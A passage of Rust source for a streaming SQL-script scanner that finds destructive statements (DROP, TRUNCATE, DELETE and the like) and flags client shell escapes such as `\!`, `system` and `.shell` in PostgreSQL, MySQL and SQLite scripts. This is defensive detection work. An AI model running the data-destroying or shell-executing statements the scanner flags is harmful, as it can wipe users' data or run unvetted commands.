//! SQL scripts: which statements a client will send, and which of them destroy data.
//!
//! Two stages, as the design notes propose. A streaming scanner walks the bytes once,
//! tracking only what changes meaning — quotes, `E''` escapes, dollar quotes, nested
//! comments, psql `\` meta-commands, `COPY … FROM stdin` data, mysql/sqlite client commands —
//! and keeps the text of *candidate* statements only (those starting with DROP, TRUNCATE,
//! DELETE, UPDATE, ALTER, DO, …). Candidates are then tokenized with sqlparser's tokenizer
//! and classified. Memory is bounded whatever the input size; comments, literals,
//! dollar-quoted bodies and identifiers like `drop_reason` never trigger anything.

use sqlparser::dialect::{Dialect as SqlDialect, MySqlDialect, PostgreSqlDialect, SQLiteDialect};
use sqlparser::tokenizer::{Token, Tokenizer};

use crate::facts::{Statement, StatementKind};

/// Bytes that can change the scanner's state in code (quotes, comment starts, dollar
/// quotes, statement ends, meta-commands, line starts).
static CODE_STOPS: [bool; 256] = {
    let mut t = [false; 256];
    let stops = b"'\"`-/$;\\#";
    let mut i = 0;
    while i < stops.len() {
        t[stops[i] as usize] = true;
        i += 1;
    }
    t
};

fn is_ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80
}

/// The client whose script syntax applies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    Postgres,
    MySql,
    Sqlite,
}

/// Longest candidate statement kept for the tokenizer.
const KEEP: usize = 1 << 20;
/// Statements whose first word makes them worth keeping.
const CANDIDATES: &[&str] = &[
    "DROP", "TRUNCATE", "DELETE", "UPDATE", "ALTER", "DO", "COPY", "RESET", "SOURCE", "WITH", "EXPLAIN", "MERGE",
    "CREATE", "PREPARE", "CALL", "ATTACH",
];
/// Statements that run something defined earlier in the same input (a function, procedure
/// or prepared statement): kept only once something is defined.
const USES: &[&str] = &["SELECT", "CALL", "EXECUTE", "PERFORM"];

/// Something a script asks the client to do besides sending SQL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Directive {
    /// Read and run another file (`\i`, `\ir`, `source`, `.read`); `relative`: relative to
    /// the including script (`\ir`).
    Include { path: String, relative: bool },
    /// Connect elsewhere (`\c db host`, `.open file`).
    Connect(Vec<String>),
}

/// What one client session has defined so far, carried from one input to the next
/// (`-f a.sql -f b.sql`, `\i`): psql variables, functions and prepared statements, and
/// temporary tables.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Session {
    /// psql variables (`-v name=value`, `\set name value`), interpolated as `:name`,
    /// `:'name'`, `:"name"`.
    vars: Vec<(Vec<u8>, Vec<u8>)>,
    /// Functions, procedures and prepared statements whose bodies destroy or cannot be
    /// seen: name (upper case) → what calling them does.
    defs: Vec<(String, Classified)>,
    /// Temporary tables created so far (upper case): dropping them destroys nothing kept.
    temp_tables: Vec<String>,
}

impl Session {
    /// A session with psql variables set on the command line.
    pub fn with_vars(vars: &[(String, String)]) -> Session {
        Session {
            vars: vars.iter().map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec())).collect(),
            ..Session::default()
        }
    }

    fn var(&self, name: &[u8]) -> Option<Vec<u8>> {
        self.vars.iter().rev().find(|(k, _)| k == name).map(|(_, v)| v.clone())
    }
}

/// What a script holds.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Script {
    /// Destructive statements (anything classified other than `other`).
    pub statements: Vec<Statement>,
    pub directives: Vec<Directive>,
    pub unknown: Vec<String>,
    /// Statements seen in all.
    pub count: u64,
    /// What the session has defined by the end of the script.
    pub session: Session,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Code,
    /// After `-`: a `--` comment may start.
    Dash,
    /// After `/`: a `/*` comment may start.
    Slash,
    LineComment,
    Block {
        depth: u32,
    },
    /// In a block comment after `*` (may close) or `/` (may nest).
    BlockStar {
        depth: u32,
    },
    BlockSlash {
        depth: u32,
    },
    Quote {
        quote: u8,
        escapes: bool,
    },
    /// After a closing quote: a doubled quote continues the string.
    QuoteEnd {
        quote: u8,
        escapes: bool,
    },
    QuoteEscape {
        quote: u8,
    },
    /// After `$` in code: a dollar-quote tag may follow.
    DollarTag,
    Dollar,
    /// Matching the closing tag; `usize` bytes of `$tag$` matched so far.
    DollarClose(usize),
    /// A client command to the end of the line.
    Meta,
    /// `COPY … FROM stdin` data, at the start of a line.
    CopyLineStart,
    CopyLine,
    /// MySQL: after `--`; a comment only if whitespace follows.
    DashDash,
    /// MySQL: after `/*`; `!` makes it an executable comment.
    BlockOpen,
    /// The version digits of `/*!50000`.
    ExecVersion,
    /// A `*` inside an executable comment: `/` closes it.
    ExecStar,
    /// After `:` in psql code with variables set: `:name`, `:'name'`, `:"name"` may follow.
    Colon,
    /// Reading `:name` (the name so far in `tag`).
    ColonName,
    /// Reading `:'name'` / `:"name"` (the name so far in `tag`).
    ColonQuoted {
        quote: u8,
    },
}

/// The streaming scanner.
pub struct Scanner {
    dialect: Dialect,
    state: State,
    /// Candidate statement text (or the current client command).
    text: Vec<u8>,
    /// Whether `text` is being kept for this statement.
    keep: bool,
    /// The statement's first word so far (upper case), while it is being read.
    first: Vec<u8>,
    first_done: bool,
    /// Any non-blank code seen in this statement.
    started: bool,
    /// At the start of a line (for `.read` and `source` commands).
    line_start: bool,
    tag: Vec<u8>,
    after_copy: bool,
    /// Whether the previous code byte was part of an identifier, and was a lone `E`.
    ident: bool,
    lone_e: bool,
    /// Feeding a variable's value: no interpolation inside it (psql does not recurse).
    expanding: bool,
    /// Inside a MySQL executable comment `/*! … */`.
    in_exec: bool,
    /// MySQL's statement delimiter after `DELIMITER x` (`None`: `;`), and the last code
    /// bytes seen, to find it.
    delimiter: Option<Vec<u8>>,
    recent: Vec<u8>,
    out: Script,
}

impl Scanner {
    pub fn new(dialect: Dialect) -> Scanner {
        Scanner::with_session(dialect, Session::default())
    }

    /// A scanner that continues `session` (what earlier inputs defined).
    pub fn with_session(dialect: Dialect, session: Session) -> Scanner {
        Scanner {
            dialect,
            state: State::Code,
            text: Vec::new(),
            keep: true,
            first: Vec::new(),
            first_done: false,
            started: false,
            line_start: true,
            tag: Vec::new(),
            after_copy: false,
            ident: false,
            lone_e: false,
            expanding: false,
            in_exec: false,
            delimiter: None,
            recent: Vec::new(),
            out: Script { session, ..Script::default() },
        }
    }

    /// Scan a whole text for what it destroys (the statements inside a definition).
    fn scan_classified(dialect: Dialect, text: &str) -> Classified {
        let script = Scanner::scan(dialect, text);
        Classified { statements: script.statements, unknown: script.unknown, copy_from_stdin: false }
    }

    /// Scan a whole text.
    pub fn scan(dialect: Dialect, text: &str) -> Script {
        let mut s = Scanner::new(dialect);
        s.feed(text.as_bytes());
        s.finish()
    }

    fn push(&mut self, b: u8) {
        if self.keep && self.text.len() < KEEP {
            self.text.push(b);
        }
    }

    fn push_slice(&mut self, bytes: &[u8]) {
        if self.keep {
            let room = KEEP.saturating_sub(self.text.len());
            self.text.extend_from_slice(&bytes[..bytes.len().min(room)]);
        }
    }

    /// Feed the next chunk of input.
    pub fn feed(&mut self, chunk: &[u8]) {
        let mut i = 0;
        while i < chunk.len() {
            // Fast paths: skip runs that cannot change state.
            match self.state {
                State::Quote { quote, escapes } => {
                    let rest = &chunk[i..];
                    let hit = if escapes { memchr::memchr2(quote, b'\\', rest) } else { memchr::memchr(quote, rest) };
                    let n = hit.unwrap_or(rest.len());
                    self.push_slice(&rest[..n]);
                    i += n;
                    if hit.is_none() {
                        continue;
                    }
                }
                State::LineComment | State::CopyLine => {
                    let rest = &chunk[i..];
                    let n = memchr::memchr(b'\n', rest).unwrap_or(rest.len());
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                }
                State::Dollar => {
                    let rest = &chunk[i..];
                    let hit = memchr::memchr(b'$', rest);
                    let n = hit.unwrap_or(rest.len());
                    self.push_slice(&rest[..n]);
                    i += n;
                    if hit.is_none() {
                        continue;
                    }
                }
                State::Block { .. } => {
                    let rest = &chunk[i..];
                    let n = memchr::memchr2(b'*', b'/', rest).unwrap_or(rest.len());
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                }
                State::Code
                    if !self.keep
                        && self.first_done
                        && self.out.session.vars.is_empty()
                        && !self.in_exec
                        && self.delimiter.is_none() =>
                {
                    // Outside any candidate statement only bytes that can change state
                    // matter; a table lookup skips the rest. `E'…'` is recognised from the
                    // two bytes before the quote, which the skip keeps.
                    let rest = &chunk[i..];
                    let n = rest.iter().position(|&b| CODE_STOPS[b as usize]).unwrap_or(rest.len());
                    if n > 0 {
                        let last = rest[n - 1];
                        let before = if n > 1 {
                            rest[n - 2]
                        } else if self.ident {
                            b'a'
                        } else {
                            b' '
                        };
                        self.lone_e = (last == b'E' || last == b'e') && !is_ident_byte(before);
                        self.ident = is_ident_byte(last);
                    }
                    i += n;
                    if n == rest.len() {
                        continue;
                    }
                    // The commonest stop: a plain string opens (no escapes to track).
                    let quote = chunk[i];
                    if (quote == b'\'' && !self.lone_e && self.dialect != Dialect::MySql)
                        || (quote == b'"' && self.dialect != Dialect::MySql)
                    {
                        self.state = State::Quote { quote, escapes: false };
                        self.ident = false;
                        i += 1;
                        continue;
                    }
                }
                State::QuoteEnd { quote, .. } if !self.keep && self.first_done && chunk[i] != quote => {
                    // A string closed; an ordinary byte follows: back to skipping code.
                    let b = chunk[i];
                    self.state = State::Code;
                    if !CODE_STOPS[b as usize] {
                        self.ident = is_ident_byte(b);
                        self.lone_e = false;
                        i += 1;
                        continue;
                    }
                    self.ident = false;
                    self.lone_e = false;
                }
                _ => {}
            }
            let b = chunk[i];
            i += 1;
            self.byte(b);
        }
    }

    fn byte(&mut self, b: u8) {
        match self.state {
            State::Code => self.code(b),
            State::Dash => {
                if b == b'-' && self.dialect == Dialect::MySql {
                    // MySQL: `--` starts a comment only when whitespace follows.
                    self.state = State::DashDash;
                } else if b == b'-' {
                    self.text.pop();
                    self.state = State::LineComment;
                } else {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::DashDash => {
                if b.is_ascii_whitespace() {
                    self.text.pop();
                    self.state = State::LineComment;
                    if b == b'\n' {
                        self.state = State::Code;
                        self.code(b);
                    }
                } else {
                    self.state = State::Code;
                    self.push(b'-');
                    self.code(b);
                }
            }
            State::Slash => {
                if b == b'*' {
                    self.text.pop();
                    self.state =
                        if self.dialect == Dialect::MySql { State::BlockOpen } else { State::Block { depth: 1 } };
                } else {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::BlockOpen => {
                if b == b'!' {
                    // `/*! … */`, `/*!50000 … */`: MySQL runs what is inside.
                    self.state = State::ExecVersion;
                } else {
                    self.state = State::Block { depth: 1 };
                    self.byte(b);
                }
            }
            State::ExecVersion => {
                if !b.is_ascii_digit() {
                    self.state = State::Code;
                    self.in_exec = true;
                    self.code(b);
                }
            }
            State::ExecStar => {
                self.state = State::Code;
                if b == b'/' {
                    self.in_exec = false;
                    self.push(b' ');
                } else {
                    self.push(b'*');
                    self.code(b);
                }
            }
            State::LineComment => {
                if b == b'\n' {
                    self.state = State::Code;
                    self.code(b);
                }
            }
            State::Block { depth } => match b {
                b'*' => self.state = State::BlockStar { depth },
                b'/' => self.state = State::BlockSlash { depth },
                _ => {}
            },
            State::BlockStar { depth } => match b {
                b'/' if depth <= 1 => {
                    self.state = State::Code;
                    self.push(b' ');
                }
                b'/' => self.state = State::Block { depth: depth - 1 },
                b'*' => {}
                _ => self.state = State::Block { depth },
            },
            State::BlockSlash { depth } => match b {
                // PostgreSQL nests block comments; MySQL and SQLite do not.
                b'*' if self.dialect == Dialect::Postgres => self.state = State::Block { depth: depth + 1 },
                b'/' => {}
                _ => self.state = State::Block { depth },
            },
            State::Quote { quote, escapes } => {
                self.push(b);
                if escapes && b == b'\\' {
                    self.state = State::QuoteEscape { quote };
                } else if b == quote {
                    self.state = State::QuoteEnd { quote, escapes };
                }
            }
            State::QuoteEscape { quote } => {
                self.push(b);
                self.state = State::Quote { quote, escapes: true };
            }
            State::QuoteEnd { quote, escapes } => {
                if b == quote {
                    self.push(b);
                    self.state = State::Quote { quote, escapes };
                } else {
                    self.state = State::Code;
                    self.ident = false;
                    self.code(b);
                }
            }
            State::DollarTag => {
                if b == b'$' {
                    self.push(b);
                    self.state = State::Dollar;
                } else if b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80 {
                    if self.tag.is_empty() && b.is_ascii_digit() {
                        // `$1`: a parameter, not a quote.
                        self.state = State::Code;
                        self.code(b);
                    } else {
                        self.tag.push(b);
                        self.push(b);
                    }
                } else {
                    self.state = State::Code;
                    self.tag.clear();
                    self.code(b);
                }
            }
            State::Dollar => {
                self.push(b);
                if b == b'$' {
                    self.state = State::DollarClose(0);
                }
            }
            State::DollarClose(matched) => {
                self.push(b);
                if matched == self.tag.len() {
                    if b == b'$' {
                        self.tag.clear();
                        self.state = State::Code;
                        self.ident = false;
                    } else {
                        self.state = if b == b'$' { State::DollarClose(0) } else { State::Dollar };
                    }
                } else if self.tag.get(matched) == Some(&b) {
                    self.state = State::DollarClose(matched + 1);
                } else {
                    self.state = if b == b'$' { State::DollarClose(0) } else { State::Dollar };
                }
            }
            State::Meta => {
                if b == b'\n' {
                    self.meta_done();
                } else if self.text.len() < 4096 {
                    self.text.push(b);
                }
            }
            State::CopyLineStart => {
                self.text.push(b);
                if b == b'\n' {
                    let line = std::mem::take(&mut self.text);
                    if line.strip_suffix(b"\n").map(|l| l.strip_suffix(b"\r").unwrap_or(l)) == Some(b"\\.") {
                        self.state = State::Code;
                        self.reset();
                    }
                } else if self.text.len() >= 3 || !b"\\.\r".starts_with(&self.text[..self.text.len().min(2)]) {
                    self.text.clear();
                    self.state = State::CopyLine;
                }
            }
            State::CopyLine => {
                if b == b'\n' {
                    self.state = State::CopyLineStart;
                }
            }
            State::Colon => match b {
                b'\'' | b'"' => {
                    self.tag.clear();
                    self.state = State::ColonQuoted { quote: b };
                }
                b if b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 => {
                    self.tag.clear();
                    self.tag.push(b);
                    self.state = State::ColonName;
                }
                _ => {
                    self.state = State::Code;
                    self.code_at(b':', false);
                    self.byte(b);
                }
            },
            State::ColonName => {
                if is_ident_byte(b) && self.tag.len() < 64 {
                    self.tag.push(b);
                } else {
                    self.state = State::Code;
                    let name = std::mem::take(&mut self.tag);
                    self.interpolate(&name, None);
                    self.byte(b);
                }
            }
            State::ColonQuoted { quote } => {
                if b == quote || self.tag.len() >= 64 {
                    self.state = State::Code;
                    let name = std::mem::take(&mut self.tag);
                    self.interpolate(&name, Some(quote));
                } else {
                    self.tag.push(b);
                }
            }
        }
    }

    /// psql's `:name` (as is), `:'name'` (a string literal) or `:"name"` (an identifier):
    /// the variable's value goes through the scanner as if written there. An unset variable
    /// stays as written.
    fn interpolate(&mut self, name: &[u8], quote: Option<u8>) {
        let value = self.out.session.var(name);
        self.expanding = true;
        match (value, quote) {
            (Some(v), None) => v.iter().for_each(|&b| self.byte(b)),
            (Some(v), Some(q)) => {
                self.byte(q);
                for &b in &v {
                    if b == q {
                        self.byte(q);
                    }
                    self.byte(b);
                }
                self.byte(q);
            }
            (None, q) => {
                self.code_at(b':', false);
                q.into_iter().for_each(|q| self.byte(q));
                name.iter().for_each(|&b| self.byte(b));
                q.into_iter().for_each(|q| self.byte(q));
            }
        }
        self.expanding = false;
    }

    fn code(&mut self, b: u8) {
        self.code_at(b, true);
    }

    /// A byte of code; `interpolate`: a `:` may start a psql variable.
    fn code_at(&mut self, b: u8, interpolate: bool) {
        if interpolate
            && b == b':'
            && !self.expanding
            && self.dialect == Dialect::Postgres
            && !self.out.session.vars.is_empty()
        {
            self.state = State::Colon;
            return;
        }
        let was_line_start = self.line_start;
        self.line_start = b == b'\n';
        if let Some(delim) = &self.delimiter {
            self.recent.push(b);
            if self.recent.len() > delim.len() {
                self.recent.remove(0);
            }
            if self.recent == *delim {
                // The delimiter's earlier bytes were kept as text: take them back.
                let keep = self.text.len().saturating_sub(delim.len() - 1);
                self.text.truncate(keep);
                self.recent.clear();
                self.end_statement();
                return;
            }
        }
        match b {
            b';' if self.delimiter.is_none() => {
                self.end_statement();
                return;
            }
            b'*' if self.in_exec => {
                self.state = State::ExecStar;
                return;
            }
            b'\'' => {
                let escapes = self.lone_e || self.dialect == Dialect::MySql;
                self.state = State::Quote { quote: b'\'', escapes };
            }
            b'"' => self.state = State::Quote { quote: b'"', escapes: self.dialect == Dialect::MySql },
            b'`' if self.dialect != Dialect::Postgres => self.state = State::Quote { quote: b'`', escapes: false },
            b'-' => self.state = State::Dash,
            b'/' => self.state = State::Slash,
            b'#' if self.dialect == Dialect::MySql => {
                self.state = State::LineComment;
                return;
            }
            b'$' if self.dialect == Dialect::Postgres && !self.ident => {
                self.tag.clear();
                self.state = State::DollarTag;
            }
            b'\\' if self.dialect != Dialect::Sqlite => {
                // psql meta-command (anywhere outside quotes) or mysql `\.`-style command:
                // it ends the statement before it.
                self.end_statement();
                self.text.clear();
                self.state = State::Meta;
                return;
            }
            // sqlite3 dot-commands start at the left margin.
            b'.' if self.dialect == Dialect::Sqlite && !self.started && was_line_start => {
                self.text.clear();
                self.state = State::Meta;
                return;
            }
            _ => {}
        }
        let is_ident = b.is_ascii_alphanumeric() || b == b'_' || b >= 0x80;
        if !self.first_done {
            if is_ident {
                self.first.push(b.to_ascii_uppercase());
            } else if !self.first.is_empty() {
                self.first_word_done();
            }
        }
        if is_ident || !b.is_ascii_whitespace() {
            self.started = true;
        }
        self.lone_e = (b == b'E' || b == b'e') && !self.ident;
        self.ident = is_ident;
        self.push(b);
        if !self.first_done && !self.first.is_empty() && self.first.len() > 16 {
            self.first_word_done();
        }
    }

    fn first_word_done(&mut self) {
        self.first_done = true;
        // Compared as bytes: this runs once per statement, millions of times in a dump.
        let word: &[u8] = &self.first;
        if self.dialect == Dialect::MySql && word == b"SOURCE" {
            // `source file` is a client command to the end of the line.
            self.text.clear();
            self.text.extend_from_slice(b"source ");
            self.state = State::Meta;
            return;
        }
        if self.dialect == Dialect::MySql && word == b"SYSTEM" {
            // `system CMD` (the client's `\!`) runs a shell command, to the end of the line.
            self.text.clear();
            self.text.extend_from_slice(b"system ");
            self.state = State::Meta;
            return;
        }
        if self.dialect == Dialect::MySql && word == b"DELIMITER" {
            self.text.clear();
            self.text.extend_from_slice(b"delimiter ");
            self.state = State::Meta;
            return;
        }
        self.keep = CANDIDATES.iter().any(|c| c.as_bytes() == word)
            || (!self.out.session.defs.is_empty() && USES.iter().any(|c| c.as_bytes() == word));
        if !self.keep {
            self.text.clear();
        }
    }

    fn reset(&mut self) {
        self.text.clear();
        self.keep = true;
        self.first.clear();
        self.first_done = false;
        self.started = false;
        self.ident = false;
        self.lone_e = false;
    }

    fn end_statement(&mut self) {
        if !self.first_done && !self.first.is_empty() {
            self.first_word_done();
            if self.state == State::Meta {
                return;
            }
        }
        if self.started {
            self.out.count += 1;
        }
        if self.keep && self.started && self.first_done {
            let text = String::from_utf8_lossy(&self.text).into_owned();
            let truncated = self.text.len() >= KEEP;
            self.statement(&text, truncated);
        }
        self.reset();
        self.state = State::Code;
        if std::mem::take(&mut self.after_copy) && self.dialect == Dialect::Postgres {
            self.state = State::CopyLineStart;
        }
    }

    /// One kept statement: classify it, remember what it defines, and add what it runs.
    fn statement(&mut self, text: &str, truncated: bool) {
        let first = self.first.clone();
        if first == b"CREATE" {
            // Only definitions matter among CREATE statements; a dump has thousands of
            // CREATE TABLE, which are not tokenized.
            let head = text.get(..text.len().min(200)).unwrap_or(text).to_ascii_uppercase();
            if !["FUNCTION", "PROCEDURE", "TEMP", "TEMPORARY"].iter().any(|w| head.contains(w)) {
                return;
            }
        }
        let Some(tokens) = tokens(self.dialect, text) else {
            if first != b"CREATE" && !USES.iter().any(|u| u.as_bytes() == first.as_slice()) {
                self.out.unknown.push(format!("a statement could not be read: {}", excerpt(text)));
            }
            return;
        };
        match first.as_slice() {
            b"CREATE" | b"PREPARE" => {
                if let Some((name, def)) = definition(self.dialect, &tokens) {
                    self.out.session.defs.retain(|(n, _)| *n != name);
                    if !def.statements.is_empty() || !def.unknown.is_empty() {
                        self.out.session.defs.push((name, def));
                    }
                } else if let Some(table) = temp_table(&tokens) {
                    self.out.session.temp_tables.push(table);
                }
                return;
            }
            b"SELECT" | b"CALL" | b"EXECUTE" | b"PERFORM" => {
                let used: Vec<Classified> = self.uses(&tokens);
                for c in used {
                    self.out.statements.extend(c.statements);
                    self.out.unknown.extend(c.unknown);
                }
                if first != b"CALL" {
                    return;
                }
            }
            _ => {}
        }
        let mut classified = classify(self.dialect, text, truncated);
        if first == b"DROP" && !self.out.session.temp_tables.is_empty() {
            // `DROP TABLE t` of a temporary table this input created: nothing kept is lost.
            let names = dropped_tables(&tokens);
            if !names.is_empty() && names.iter().all(|n| self.out.session.temp_tables.contains(n)) {
                classified.statements.clear();
            }
        }
        self.after_copy = classified.copy_from_stdin;
        self.out.statements.extend(classified.statements);
        self.out.unknown.extend(classified.unknown);
    }

    /// What a statement runs of the definitions made earlier: `SELECT wipe()`, `CALL p()`,
    /// `PERFORM f()`, `EXECUTE stmt`.
    fn uses(&self, tokens: &[Tok]) -> Vec<Classified> {
        let mut out = Vec::new();
        for (name, def) in &self.out.session.defs {
            let called = tokens.iter().enumerate().any(|(i, t)| {
                matches!(t, Tok::Word(w, _, _) if w == name)
                    && (matches!(tokens.get(i + 1), Some(Tok::Other(p)) if p == "(")
                        || matches!(tokens.get(i.wrapping_sub(1)), Some(Tok::Word(k, false, _)) if k == "EXECUTE" || k == "CALL"))
            });
            if called {
                out.push(Classified {
                    statements: def
                        .statements
                        .iter()
                        .map(|s| Statement {
                            text: excerpt(&format!("{} (run by {})", s.text, name.to_ascii_lowercase())),
                            ..s.clone()
                        })
                        .collect(),
                    unknown: def.unknown.clone(),
                    copy_from_stdin: false,
                });
            }
        }
        out
    }

    fn meta_done(&mut self) {
        let line = String::from_utf8_lossy(&std::mem::take(&mut self.text)).into_owned();
        self.reset();
        self.state = State::Code;
        self.line_start = true;
        self.meta(line.trim());
    }

    /// A client command: psql `\…`, mysql `source`/`\.`, sqlite `.…`.
    fn meta(&mut self, line: &str) {
        let words = shell_words::split(line).unwrap_or_else(|_| line.split_whitespace().map(String::from).collect());
        let Some(cmd) = words.first().map(String::as_str) else {
            return;
        };
        let arg = words.get(1).cloned().unwrap_or_default();
        match (self.dialect, cmd) {
            (Dialect::Postgres, "i" | "include") | (Dialect::MySql, "source" | ".") | (Dialect::Sqlite, "read") => {
                self.out.directives.push(Directive::Include { path: arg, relative: false })
            }
            (Dialect::Postgres, "ir" | "include_relative") => {
                self.out.directives.push(Directive::Include { path: arg, relative: true })
            }
            (Dialect::MySql, "delimiter" | "DELIMITER" | "Delimiter") => {
                self.delimiter = (!arg.is_empty() && arg != ";").then(|| arg.into_bytes());
                self.recent.clear();
            }
            (Dialect::Postgres, "set") if words.len() >= 2 => {
                let value: String = words[2..].concat();
                self.out.session.vars.push((arg.into_bytes(), value.into_bytes()));
            }
            (Dialect::Postgres, "unset") => self.out.session.vars.retain(|(k, _)| *k != arg.as_bytes()),
            (Dialect::Postgres, "gexec") => self
                .out
                .unknown
                .push("`\\gexec` runs the results of a query as SQL; what it runs cannot be known in advance".into()),
            (Dialect::Postgres | Dialect::MySql, "!")
            | (Dialect::MySql | Dialect::Sqlite, "system")
            | (Dialect::Sqlite, "shell") => self
                .out
                .unknown
                .push(format!("the script runs a shell command: {}", line.chars().take(120).collect::<String>())),
            (Dialect::Postgres, "c" | "connect") | (Dialect::Sqlite, "open") => {
                self.out.directives.push(Directive::Connect(words[1..].to_vec()))
            }
            (Dialect::Sqlite, "restore") => self.out.statements.push(Statement {
                kind: StatementKind::Restore,
                object: words.last().cloned(),
                text: excerpt(&format!(".{line}")),
            }),
            _ => {}
        }
    }

    /// End of input.
    pub fn finish(mut self) -> Script {
        match std::mem::replace(&mut self.state, State::Code) {
            State::Colon => self.code_at(b':', false),
            State::ColonName => {
                let name = std::mem::take(&mut self.tag);
                self.interpolate(&name, None);
            }
            State::ColonQuoted { quote } => {
                let name = std::mem::take(&mut self.tag);
                self.code_at(b':', false);
                self.byte(quote);
                name.iter().for_each(|&b| self.byte(b));
            }
            other => self.state = other,
        }
        match self.state {
            State::Quote { .. } | State::QuoteEscape { .. } => {
                self.out.unknown.push("the SQL ends inside an unterminated quoted string".into())
            }
            State::Dollar | State::DollarClose(_) => {
                self.out.unknown.push("the SQL ends inside an unterminated dollar-quoted string".into())
            }
            State::Block { .. } | State::BlockStar { .. } | State::BlockSlash { .. } => {}
            State::Meta => self.meta_done(),
            _ => {}
        }
        if matches!(
            self.state,
            State::Code | State::Dash | State::Slash | State::QuoteEnd { .. } | State::DollarTag | State::LineComment
        ) {
            self.end_statement();
        }
        self.out
    }
}

/// A statement shortened for humans.
fn excerpt(text: &str) -> String {
    let one_line: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if one_line.chars().count() > 160 {
        format!("{}…", one_line.chars().take(160).collect::<String>())
    } else {
        one_line
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
struct Classified {
    statements: Vec<Statement>,
    unknown: Vec<String>,
    copy_from_stdin: bool,
}

/// The words, strings and symbols of a statement (whitespace dropped); `None` when the
/// tokenizer cannot read it.
fn tokens(dialect: Dialect, text: &str) -> Option<Vec<Tok>> {
    let d: Box<dyn SqlDialect> = match dialect {
        Dialect::Postgres => Box::new(PostgreSqlDialect {}),
        Dialect::MySql => Box::new(MySqlDialect {}),
        Dialect::Sqlite => Box::new(SQLiteDialect {}),
    };
    let tokens = Tokenizer::new(d.as_ref(), text).tokenize().ok()?;
    Some(
        tokens
            .iter()
            .filter_map(|t| match t {
                Token::Word(w) => {
                    Some(Tok::Word(w.value.to_ascii_uppercase(), w.quote_style.is_some(), w.value.clone()))
                }
                Token::Whitespace(_) => None,
                Token::DollarQuotedString(s) => Some(Tok::Body(s.value.clone())),
                Token::SingleQuotedString(s) => Some(Tok::Str(s.clone())),
                Token::Number(n, _) => Some(Tok::Other(n.clone())),
                other => Some(Tok::Other(other.to_string())),
            })
            .collect(),
    )
}

/// Statement text rebuilt from tokens (for re-classifying a statement inside another).
fn untokenize(tokens: &[Tok]) -> String {
    let parts: Vec<String> = tokens
        .iter()
        .map(|t| match t {
            Tok::Word(_, true, raw) => format!("\"{raw}\""),
            Tok::Word(_, false, raw) => raw.clone(),
            Tok::Str(s) => format!("'{}'", s.replace('\'', "''")),
            Tok::Body(b) => format!("$interlock${b}$interlock$"),
            Tok::Other(o) => o.clone(),
        })
        .collect();
    parts.join(" ")
}

fn is_kw(t: Option<&Tok>, k: &str) -> bool {
    matches!(t, Some(Tok::Word(w, false, _)) if w == k)
}

/// `CREATE [OR REPLACE] FUNCTION|PROCEDURE name … AS $$body$$` (or a MySQL `BEGIN … END`
/// body) and `PREPARE name AS statement`: the name (upper case) and what running it does.
fn definition(dialect: Dialect, words: &[Tok]) -> Option<(String, Classified)> {
    let mut i = 1;
    if is_kw(words.get(i), "OR") && is_kw(words.get(i + 1), "REPLACE") {
        i += 2;
    }
    if is_kw(words.first(), "PREPARE") {
        let Some(Tok::Word(name, _, _)) = words.get(1) else { return None };
        let at = words.iter().position(|t| is_kw(Some(t), "AS"))?;
        let inner = untokenize(&words[at + 1..]);
        return Some((name.clone(), Scanner::scan_classified(dialect, &inner)));
    }
    if is_kw(words.get(i), "DEFINER") || is_kw(words.get(i), "ALGORITHM") {
        // MySQL `CREATE DEFINER=user PROCEDURE …`
        while i < words.len() && !is_kw(words.get(i), "PROCEDURE") && !is_kw(words.get(i), "FUNCTION") {
            i += 1;
        }
    }
    if !(is_kw(words.get(i), "FUNCTION") || is_kw(words.get(i), "PROCEDURE")) {
        return None;
    }
    // The name: the last word before `(`, schema-qualified or not.
    let open = words[i..].iter().position(|t| matches!(t, Tok::Other(p) if p == "("))? + i;
    let name = words[i + 1..open].iter().rev().find_map(|t| match t {
        Tok::Word(w, _, _) => Some(w.clone()),
        _ => None,
    })?;
    let mut def = Classified { statements: Vec::new(), unknown: Vec::new(), copy_from_stdin: false };
    let bodies: Vec<&String> = words[open..]
        .iter()
        .filter_map(|t| match t {
            Tok::Body(b) => Some(b),
            _ => None,
        })
        .collect();
    if !bodies.is_empty() {
        for b in bodies {
            plpgsql(b, &mut def);
        }
    } else if let Some(begin) = words[open..].iter().position(|t| is_kw(Some(t), "BEGIN")) {
        // A body written out (MySQL procedures, SQL-standard bodies): split at `;`.
        let body = untokenize(&words[open + begin + 1..]);
        let inner = Scanner::scan_classified(dialect, &body);
        def.statements.extend(inner.statements);
        def.unknown.extend(inner.unknown);
    } else if let Some(as_at) = words[open..].iter().position(|t| is_kw(Some(t), "AS")) {
        // `AS 'DELETE FROM t'` (single-quoted body)
        for t in &words[open + as_at..] {
            if let Tok::Str(b) = t {
                plpgsql(b, &mut def);
            }
        }
    }
    Some((name, def))
}

/// `CREATE [GLOBAL|LOCAL] TEMP|TEMPORARY TABLE [IF NOT EXISTS] name`: the name.
fn temp_table(words: &[Tok]) -> Option<String> {
    let at = words.iter().position(|t| is_kw(Some(t), "TEMP") || is_kw(Some(t), "TEMPORARY"))?;
    if at > 3 || !is_kw(words.get(at + 1), "TABLE") {
        return None;
    }
    let mut j = at + 2;
    while matches!(words.get(j), Some(Tok::Word(w, false, _)) if matches!(w.as_str(), "IF" | "NOT" | "EXISTS")) {
        j += 1;
    }
    match words.get(j)? {
        Tok::Word(w, _, _) => Some(w.clone()),
        _ => None,
    }
}

/// The tables a `DROP [TEMPORARY] TABLE [IF EXISTS] a, b` names (upper case); empty for
/// other DROPs.
fn dropped_tables(words: &[Tok]) -> Vec<String> {
    let mut j = 1;
    if is_kw(words.get(j), "TEMPORARY") {
        j += 1;
    }
    if !is_kw(words.get(j), "TABLE") {
